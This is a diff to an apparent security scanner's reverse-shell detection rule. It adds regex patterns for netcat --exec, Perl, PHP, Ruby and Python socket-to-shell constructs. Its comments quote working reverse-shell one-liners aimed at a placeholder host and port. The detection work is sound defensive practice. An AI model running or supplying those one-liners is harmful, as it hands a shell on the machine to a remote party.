@@ -201,17 +201,20 @@ def url_install(doc: Document, match: re.Match[str], hit: Hit) -> Hit | None:
 #: A shell wired to a network connection (to another machine: /dev/tcp to localhost is a bash
 #: port check or HTTP request).
 _DEV_TCP = r"/dev/(?:tcp|udp)/(?!localhost/|127\.)[\w.${}-]+/\d+"
+#: A shell (a path to it too) or Windows' command interpreter: what a reverse shell runs.
+_A_SHELL = r"(?:/usr)?(?:/bin/)?(?:(?:ba|z|da|k)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh)\b"
 
 REVERSE_SHELL = Rule(
     "SK634", "remote-code", "high", "reverse shell: hands a shell on this machine to a remote host",
     "A shell wired to a network connection (bash -i >& /dev/tcp/..., nc -e /bin/sh, socat exec:, "
-    "a TCP client feeding Invoke-Expression) lets whoever listens run any command, with the "
-    "agent's access.", COMMANDS, patterns=(
+    "a TCP client feeding Invoke-Expression, a Perl, PHP, Ruby or Python socket handed to a shell) lets "
+    "whoever listens run any command, with the agent's access.", COMMANDS, patterns=(
         # bash -i >& /dev/tcp/host/port 0>&1
         command(r"\b(?:ba|z|da|k)?sh\b", r"[^\n]*", rf"(?:>&|&>|<>)\s*{_DEV_TCP}", lazy=True),
         # exec 5<>/dev/tcp/...; sh <&5 >&5
         command(_DEV_TCP, r"[^\n]*", r"\b(?:ba|z|da|k)?sh\b[^\n]{0,2000}?<&\s*\d", lazy=True),
-        command(r"\b(?:nc|ncat|netcat)\b", r"[^\n|;]*", r"\s-[ec]\s*[\"']?(?:/usr)?(?:/bin/)?(?:ba|z|da)?sh\b"),
+        command(r"\b(?:nc|ncat|netcat)\b", r"[^\n|;]*",
+                rf"\s(?:-[ec]|--(?:sh-|lua-)?exec)(?:\s*|=)[\"']?{_A_SHELL}"),
         command(r"\bsocat\b", r"[^\n]*", r"\bexec:[\"']?(?:/usr)?(?:/bin/)?(?:ba|z|da)?sh\b"),
         command(r"\bmkfifo\b", r"[^\n]*",
                 r"\|\s*(?:/bin/)?(?:ba|z|da)?sh\b[^\n]{0,2000}\|\s*(?:nc|ncat|netcat|openssl\s+s_client)\b"),
@@ -219,4 +222,17 @@ REVERSE_SHELL = Rule(
         pattern(r"\b(?:Popen|call|run)\s*\(\s*\[\s*[\"'](?:/bin/)?(?:ba|z)?sh[\"']\s*(?:,\s*[\"']-i[\"']\s*)?\]\s*,\s*"
                 r"stdin\s*=\s*(?P<channel>\w+)\.fileno\(\)\s*,\s*stdout\s*=\s*(?P=channel)\.fileno\(\)"),
         pattern(r"\bNet\.Sockets\.TCPClient\b[^\n]{0,600}\b(?:iex|Invoke-Expression)\b"),
+        # perl -e 'socket(S,...);connect(S,...);open(STDIN,">&S");exec("/bin/sh -i")'
+        pattern(rf"\bsocket\s*\([^\n]{{0,400}}\bconnect\s*\([^\n]{{0,400}}\bexec\s*\(?\s*[\"']{_A_SHELL}"),
+        pattern(r"\bIO::Socket::INET\b[^\n]{0,400}\bfdopen\b[^\n]{0,400}\b(?:system|exec)\b"),
+        # php -r '$s=fsockopen("host",4444);exec("/bin/sh -i <&3 >&3 2>&3");' (or proc_open, system...)
+        pattern(rf"\bfsockopen\s*\([^\n]{{0,400}}\b(?:exec|shell_exec|system|passthru|popen|proc_open)\s*\(\s*"
+                rf"[\"']{_A_SHELL}"),
+        # ruby -rsocket -e 'f=TCPSocket.open("host",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)'
+        pattern(rf"\bTCPSocket\.(?:open|new)\b[^\n]{{0,400}}(?:\b(?:exec|spawn|system)\b[^\n]{{0,40}}?[\"']"
+                rf"{_A_SHELL}|\bIO\.popen\s*\(\s*\$_)"),
+        # Python over several lines: the socket made the standard input, then a shell spawned
+        pattern(rf"\bos\.dup2\s*\(\s*\w+(?:\.fileno\(\))?\s*,\s*0\s*\)[\s\S]{{0,600}}?"
+                rf"\b(?:pty\.spawn|subprocess\.\w+|os\.exec\w*|os\.system|Popen|call|run)\s*\(\s*\[?\s*[\"']{_A_SHELL}",
+                scope="folded"),
     ))
